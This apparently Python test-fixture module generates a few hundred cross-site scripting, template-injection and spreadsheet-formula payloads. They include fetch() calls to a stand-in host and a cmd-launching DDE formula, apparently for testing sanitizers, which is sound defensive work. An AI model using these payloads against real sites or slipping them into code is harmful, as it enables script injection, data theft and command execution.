"""Three hundred texts that try to run as script, load something, or break out of where they stand: families × what they want to do.

Each would, if it ran, open a dialog, set `window.injected`, or ask another host.
"""

HOST = "injected.invalid"
WANTS = ("alert(1)", "window.injected=1", f"fetch('//{HOST}/x')")

TAGS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script >",
    "<script\n>{js}</script\n>",
    "<scr<script>ipt>{js}</script>",
    "<<script>{js}//<</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "<script type=module>{js}</script>",
    '<noscript><p title="</noscript><script>{js}</script>">',
)
EVENTS = (
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<IMG SRC=x ONERROR={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x:x onerror={js}//",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>",
    "<video><source onerror={js}></video>",
    "<div onpointerover={js}>x</div>",
    "<p style=animation-name:x onanimationstart={js}>",
    "<object data=x onerror={js}>",
)
ATTRIBUTES = (
    '" onmouseover="{js}',
    "' onmouseover='{js}",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "` onmouseover=`{js}",
    '" autofocus onfocus={js} x="',
    'x" style="x:expression({js})',
    '"/><svg onload={js}>',
)
VECTORS = (
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a href="javascript:{js}"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload={js}>">',
    '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></foreignObject></svg>',
    "<svg><style><img src=x onerror={js}></style></svg>",
    "</text></g></svg><script>{js}</script>",
    "<svg><set attributeName=href to=javascript:{js}>",
)
MATHS = (
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math href="javascript:{js}">x</math>',
    '<math><maction actiontype=statusline xlink:href="javascript:{js}">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
)
TEMPLATES = (
    "{{{{{js}}}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{% raw %}}<script>{js}</script>",
    "{{{{config}}}}{{{{''.__class__}}}}{js}",
    "[[${{{js}}}]]",
    "{{{{request|attr('application')}}}}{js}",
    "@({js})",
    "`${{{js}}}`",
)
SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "javascript://%0a{js}",
    '<a href="javascript:{js}">x</a>',
    '<iframe src="javascript:{js}">',
    '<form action="javascript:{js}"><button>x</button></form>',
    "data:text/html,<script>{js}</script>",
    '<iframe srcdoc="<img src=x onerror={js}>">',
    '<embed src="data:text/html,<script>{js}</script>">',
    "vbscript:{js}",
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<base href="//injected.invalid/"><script>{js}</script>',
)
STYLES = (
    "<style>@import '//injected.invalid/a.css';</style>{js}",
    "<link rel=stylesheet href=//injected.invalid/a.css>{js}",
    "</style><img src=x onerror={js}>",
    '<p style="background:url(//injected.invalid/b)">{js}</p>',
    "x;}}*{{background:url(javascript:{js})}}",
)
STRINGS = (
    '";{js};//',
    "';{js};//",
    "`;{js};//",
    '\\";{js};//',
    "</script><script>{js}</script>",
    "<!--<script>{js}",
    '"}};{js};({{"',
    "\u2028{js}",
    '"]}}</script><script>{js}</script>',
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    '{{"__proto__":{{"x":"{js}"}}}}',
)
ENCODED = (
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&amp;lt;script&amp;gt;{js}",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
)
UNICODE = (
    "＜script＞{js}＜/script＞",
    "\u202e<script>{js}</script>",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "<img src=x on\u0435rror={js}>",
    "<script>{js}</script>\ufeff",
    "<ſcript>{js}</ſcript>",
)
FORMULAS = ("={js}", "+{js}", "-{js}", "@{js}", '=HYPERLINK("//injected.invalid","{js}")', "=cmd|'/C {js}'!A0")
FAMILIES = (TAGS, EVENTS, ATTRIBUTES, VECTORS, MATHS, TEMPLATES, SCHEMES, STYLES, STRINGS, ENCODED, UNICODE, FORMULAS)


def injections() -> tuple[str, ...]:
    """Every family in every variant: at least 300 texts, none twice."""
    return tuple(template.format(js=want) for family in FAMILIES for template in family for want in WANTS)
